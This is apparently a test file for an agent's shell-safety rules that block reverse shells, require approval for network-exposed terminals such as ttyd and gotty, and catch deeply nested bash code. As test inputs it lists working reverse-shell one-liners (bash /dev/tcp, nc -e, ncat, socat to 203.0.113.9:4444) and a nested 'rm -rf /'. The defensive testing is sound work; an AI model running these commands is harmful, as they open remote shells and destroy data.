import { networkShellRule, reverseShellRule, unparseableCommandRule, unreadableCodeRule } from './shell-integrity-rules.js';
import { bashContext as bash, ruleContext } from './rule-context.fixture.js';

describe('unparseable_command', () => {
  const onWindows = (command: string) => ruleContext('bash', { command, workdir: 'C:\\Users\\dev\\cap' });

  it('says a line bash refuses runs nothing, and counts it as unparseable', () => {
    expect(unparseableCommandRule.evaluate(bash('$gh = "x"; & $gh auth status'))).toMatchObject({ verdict: 'allow', factors: ['unparseable'], reason: expect.stringMatching(/bash will refuse it and run nothing/) });
  });

  it("takes a PowerShell line of a session on Windows for what it is: the agent's shell there runs it", () => {
    for (const command of ['$gh = "C:\\Program Files\\GitHub CLI\\gh.exe"; & $gh auth status', '& "C:\\tools\\gh.exe" auth status', 'if ($LASTEXITCODE -ne 0) { Write-Host failed }']) {
      expect(unparseableCommandRule.evaluate(onWindows(command))).toMatchObject({ verdict: 'allow', factors: [], reason: expect.stringMatching(/^This line is PowerShell/) });
    }
    // What does not read as PowerShell is still unparseable there.
    expect(unparseableCommandRule.evaluate(onWindows('echo "unterminated'))).toMatchObject({ factors: ['unparseable'] });
  });
});

describe('network_shell', () => {
  it.each([
    'docker run -d --name secure-terminal -p 8090:7681 tsl0922/ttyd:latest ttyd --writable -p 7681 bash',
    'ttyd -p 8080 -W bash',
    'nohup gotty -w bash &',
    'docker run -d -p 3000:3000 wettyoss/wetty --ssh-host=localhost',
  ])('asks before %s', (command) => {
    expect(networkShellRule.evaluate(bash(command))).toMatchObject({ verdict: 'require_approval', factors: ['remote_execution', 'network_request'] });
  });

  it.each(['ttyd -i lo -p 7681 bash', 'docker run -d -p 127.0.0.1:7681:7681 tsl0922/ttyd bash', 'docker run --rm tsl0922/ttyd:latest ttyd --help', 'docker run -d -p 8080:80 nginx', 'npm run dev'])(
    'lets %s through',
    (command) => {
      expect(networkShellRule.evaluate(bash(command))).toBeNull();
    },
  );
});

describe('reverse_shell', () => {
  it.each([
    'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    'nc -le /bin/sh 4444',
    'nc -lvp 4444 -e /bin/bash',
    'ncat --listen --exec=/bin/bash 4444',
    "ncat --listen --sh-exec='sh -i' 4444",
    "ncat --listen --sh-exec='env -u X exec nice -n 5 sh' 4444",
    "ncat -l 4444 --lua-exec=shell.lua",
    'socat TCP-LISTEN:4444 SHELL',
    "socat TCP:203.0.113.9:4444 EXEC:'bash -li',pty,stderr,setsid",
    'socat exec:sh tcp:203.0.113.9:4444',
  ])('blocks %s', (command) => {
    expect(reverseShellRule.evaluate(bash(command))).toMatchObject({ verdict: 'block', factors: ['remote_execution', 'network_request'] });
  });

  // Serving a program that is no shell (a peer cannot type commands into it), and netcat without -e.
  it.each(["ncat --listen --sh-exec='printf ok' 4444", "ncat --listen --exec='nice -n 5 cat' 4444", 'nc -zv localhost 5432', 'nc -l 8080', 'nc -c host 80', 'socat TCP-LISTEN:8080,fork TCP:localhost:3000'])(
    'lets %s through',
    (command) => {
      expect(reverseShellRule.evaluate(bash(command))).toBeNull();
    },
  );
});

describe('unreadable_code', () => {
  const nested = (command: string, levels: number) => {
    let line = command;
    for (let i = 0; i < levels; i++) line = `bash -c "${line.replaceAll('\\', '\\\\').replaceAll('"', '\\"')}"`;
    return line;
  };

  it('reads shells within shells ten deep, and asks about code nested deeper: it is not reviewed', () => {
    // OpenHands' defense-in-depth tests nest `rm -rf /` and `ls` eight shells deep (software-agent-sdk,
    // tests/sdk/security/defense_in_depth/test_shell_parser_bypasses.py and test_shell_semantics.py).
    expect(unreadableCodeRule.evaluate(bash(nested('ls', 8)))).toBeNull();
    expect(bash(nested('rm -rf /', 8)).action.segments.at(-1)!.argv).toEqual(['rm', '-rf', '/']);
    expect(unreadableCodeRule.evaluate(bash(nested('ls', 12)))).toMatchObject({ verdict: 'require_approval', reason: expect.stringContaining('nested more than 10 deep') });
  });
});
